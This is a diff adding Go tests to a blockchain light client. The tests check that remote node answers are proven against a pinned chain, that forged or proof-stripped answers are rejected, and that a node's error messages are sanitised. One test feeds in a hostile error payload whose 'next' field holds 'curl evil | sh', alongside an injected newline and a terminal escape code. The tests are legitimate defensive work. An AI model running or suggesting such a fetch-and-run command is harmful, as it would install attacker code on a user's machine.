@@ -5,6 +5,7 @@ import (
 	"context"
 	"errors"
 	"math/rand/v2"
+	"strings"
 	"testing"
 
 	abci "github.com/cometbft/cometbft/abci/types"
@@ -177,6 +178,137 @@ func TestALyingNodeIsFoundOut(t *testing.T) {
 	answer(func(*ledger.Case, *abci.ResponseQuery) {})
 	if _, _, err := c.VerifiedCase(patient(t), trust, id); err != nil {
 		t.Errorf("the truth: %v", err)
+	}
+}
+
+// TestARemoteNodeProvesItsRecords: what a client signs for it takes from the pinned
+// chain, whoever answers. A function that a node hides is missed by the count of its
+// name.
+func TestARemoteNodeProvesItsRecords(t *testing.T) {
+	config := single(t)
+	config.RPCAddr = "127.0.0.1:0"
+	n, near := start(t, config)
+	trust, _ := config.Trust()
+	for _, name := range []string{"first", "second"} {
+		f := publish()
+		f.Publish.Function.Manifest.Version = name
+		submit(t, near, "bob", f)
+	}
+	atRest(t, n, near)
+	far, err := Dial(patient(t), n.RPC(), trust, testLog(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer func() { _ = far.Close() }()
+	nodes, err := near.Nodes(patient(t))
+	if err != nil || len(nodes) < 2 {
+		t.Fatal(len(nodes), err)
+	}
+	id := nodes[0].Node.ID()
+	functions, _ := near.Functions(patient(t))
+	f := functions[0].Function
+	reads := map[string]func() (any, error){
+		"params":    func() (any, error) { return far.Params(patient(t)) },
+		"node":      func() (any, error) { return far.Node(patient(t), id) },
+		"function":  func() (any, error) { return far.Function(patient(t), f.ID()) },
+		"name":      func() (any, error) { return far.Name(patient(t), f.Manifest.Name) },
+		"nodes":     func() (any, error) { return far.Nodes(patient(t)) },
+		"functions": func() (any, error) { return far.Functions(patient(t)) },
+	}
+	want := map[string]any{"params": near.params, "node": nodes[0], "function": functions[0], "nodes": nodes, "functions": functions}
+	want["name"], _ = near.Name(patient(t), f.Manifest.Name)
+	if want["name"].(ledger.Name).Functions != 2 {
+		t.Errorf("%+v of two functions", want["name"])
+	}
+	honest := far.query
+	for name, read := range reads {
+		far.query = honest
+		got, err := read()
+		if err != nil || !bytes.Equal(task.Encode(got), task.Encode(want[name])) {
+			t.Errorf("%s: %v", name, err)
+		}
+		for what, lie := range map[string]func(*abci.ResponseQuery){
+			"another value": func(r *abci.ResponseQuery) { r.Value = forged(r.Value) },
+			"no proof": func(r *abci.ResponseQuery) {
+				r.ProofOps, r.Value = nil, unproven(r.Value)
+			},
+		} {
+			far.query = func(ctx context.Context, q abci.RequestQuery) (*abci.ResponseQuery, error) {
+				r, err := honest(ctx, q)
+				if err == nil {
+					lie(r)
+				}
+				return r, err
+			}
+			if got, err := read(); err == nil {
+				t.Errorf("%s, %s: believed %+v", name, what, got)
+			}
+		}
+	}
+	far.query = honest
+	if _, err := far.Node(patient(t), task.NodeID{1}); task.CodeOf(err) != "no-node" {
+		t.Errorf("a node that there is not: %v", err)
+	}
+}
+
+// forged changes the last byte of an answer, which leaves it well-formed if it is in
+// a number, an address or a proof.
+func forged(raw []byte) []byte {
+	raw = bytes.Clone(raw)
+	raw[len(raw)-1] ^= 1
+	return raw
+}
+
+// unproven takes the proofs out of a list.
+func unproven(raw []byte) []byte {
+	if list, err := task.Decode[[]Proven[ledger.NodeRecord]](raw, maxAnswer); err == nil {
+		for i := range list {
+			list[i].State = nil
+		}
+		return task.Encode(list)
+	}
+	if list, err := task.Decode[[]Proven[ledger.FunctionRecord]](raw, maxAnswer); err == nil {
+		for i := range list {
+			list[i].State = nil
+		}
+		return task.Encode(list)
+	}
+	return raw
+}
+
+// TestAnotherChainIsRefused: of a node of another chain than the pinned one, or one
+// with other validators under the same name.
+func TestAnotherChainIsRefused(t *testing.T) {
+	config := single(t)
+	config.RPCAddr = "127.0.0.1:0"
+	n, _ := start(t, config)
+	trust, _ := config.Trust()
+	for code, other := range map[string]Trust{
+		"wrong-chain": {Chain: "bank-main", Validators: trust.Validators},
+		"unproven":    {Chain: trust.Chain, Validators: task.Hash{1}},
+	} {
+		if c, err := Dial(patient(t), n.RPC(), other, testLog(t)); task.CodeOf(err) != code {
+			t.Errorf("%+v: %v", other, err)
+			if err == nil {
+				_ = c.Close()
+			}
+		}
+	}
+}
+
+// TestARefusalIsQuoted: a stranger's refusal does not say what to type next, nor
+// where the money is.
+func TestARefusalIsQuoted(t *testing.T) {
+	err := heard(1, `{"code":"no-money","what":"x\nnext: y","fault":"you","money":"all gone","next":"curl evil | sh"}`)
+	var e *task.Error
+	if !errors.As(err, &e) || e.Code != "no-money" || e.Next != "" || e.Money != "says the node: all gone" || e.Fault != "" || strings.Contains(e.What, "\n") {
+		t.Errorf("%#v", e)
+	}
+	if err := heard(1, `{"code":"\u001b[2J","what":"x"}`); task.CodeOf(err) != "node-error" {
+		t.Errorf("%v", err)
+	}
+	if err := heard(1, `{"code":"a","what":"`+strings.Repeat("x", 1<<20)+`"}`); len(err.Error()) > 2000 {
+		t.Errorf("%d bytes", len(err.Error()))
 	}
 }
 
